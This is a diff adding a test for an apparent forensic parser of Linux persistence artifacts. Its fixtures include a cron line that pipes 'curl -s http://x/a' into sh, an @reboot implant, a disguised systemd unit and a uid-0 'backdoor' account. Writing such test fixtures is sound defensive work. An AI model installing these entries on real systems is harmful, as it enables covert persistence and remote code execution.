@@ -472,3 +472,43 @@ open(sys.argv[2], 'wb').write(b)" "$f" "$d/$(basename "$f")"
 		[ "$status" -le 2 ] || { echo "$f flipped: $status"; false; }
 	done
 }
+
+@test "persistence: crontabs, a systemd unit, authorized_keys (oracle: ssh-keygen -l), passwd, shadow" {
+	need_cmd ssh-keygen
+	local d
+	d=$(scratch)
+	mkdir -p "$d/etc/cron.d" "$d/spool"
+	printf 'SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot root /usr/local/bin/implant --quiet\n' > "$d/etc/crontab"
+	printf '*/5 * * * * curl -s http://x/a | sh\n@reboot /tmp/.x\n' > "$d/spool/alice"
+	printf '[Unit]\nDescription=Totally legit\n[Service]\nExecStart=/usr/bin/python3 /opt/x.py\nExecStart=/bin/true\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n' > "$d/evil.service"
+	ssh-keygen -q -t ed25519 -N '' -C 'bob@host' -f "$d/k1" </dev/null
+	ssh-keygen -q -t rsa -b 2048 -N '' -C 'eve' -f "$d/k2" </dev/null
+	{ cat "$d/k1.pub"; printf 'from="10.0.0.0/8",no-pty,command="/bin/echo hi there" '; cat "$d/k2.pub"; } > "$d/spool/authorized_keys"
+	rm -f "$d"/k1* "$d"/k2*
+	printf 'root:x:0:0:root:/root:/bin/bash\nbackdoor:x:0:0::/tmp:/bin/sh\n' > "$d/etc/passwd"
+	printf 'root:$6$abc$def:19000:0:99999:7:::\nbob:!$y$j9T$x$y:19500:0:99999:7:::\nnew::::::::\n' > "$d/etc/shadow"
+	touch -d '2024-01-01Z' "$d/etc/crontab" "$d/spool/alice" "$d/evil.service" "$d/spool/authorized_keys" "$d/etc/passwd" "$d/etc/shadow"
+	parse "$d"
+	[ "$status" -eq 0 ]
+	[ -z "$stderr" ]
+	run -0 jq -c -s 'map(select(.data_type == "linux:cron:entry") | [.schedule, .username, .command])' <<<"$output"
+	[ "$output" = '[["17 *\t* * *","root","cd / && run-parts --report /etc/cron.hourly"],["@reboot","root","/usr/local/bin/implant --quiet"],["*/5 * * * *",null,"curl -s http://x/a | sh"],["@reboot",null,"/tmp/.x"]]' ]
+	parse "$d"
+	run -0 jq -c -s 'map(select(.data_type == "linux:systemd:unit") | [.unit, .description, .exec_start, .user, .wanted_by, .time])' <<<"$output"
+	[ "$output" = '[["evil.service","Totally legit",["/usr/bin/python3 /opt/x.py","/bin/true"],"nobody","multi-user.target","2024-01-01T00:00:00.000000000Z"]]' ]
+	parse "$d"
+	diff <(ssh-keygen -lf "$d/spool/authorized_keys" | awk '{ print $2 " " $3 }') \
+	    <(jq -r 'select(.data_type == "linux:ssh:authorized_key") | .fingerprint + " " + .comment' <<<"$output")
+	run -0 jq -r 'select(.data_type == "linux:ssh:authorized_key" and .comment == "eve") | .options' <<<"$output"
+	[ "$output" = 'from="10.0.0.0/8",no-pty,command="/bin/echo hi there"' ]
+	parse "$d"
+	run -0 jq -c -s 'map(select(.data_type == "linux:passwd:account") | [.username, .uid, .shell])' <<<"$output"
+	[ "$output" = '[["root",0,"/bin/bash"],["backdoor",0,"/bin/sh"]]' ]
+	parse "$d"
+	run -0 jq -c -s 'map(select(.data_type == "linux:shadow:entry") | [.username, .time, .password_status, .hash_type])' <<<"$output"
+	[ "$output" = '[["root","2022-01-08T00:00:00Z","set","$6$"],["bob","2023-05-23T00:00:00Z","locked","$y$"]]' ]
+	# the hash itself is never written
+	parse "$d"
+	[[ "$output" == *'"hash_type":"$6$"'* ]]
+	[[ "$output" != *'abc$def'* ]]
+}
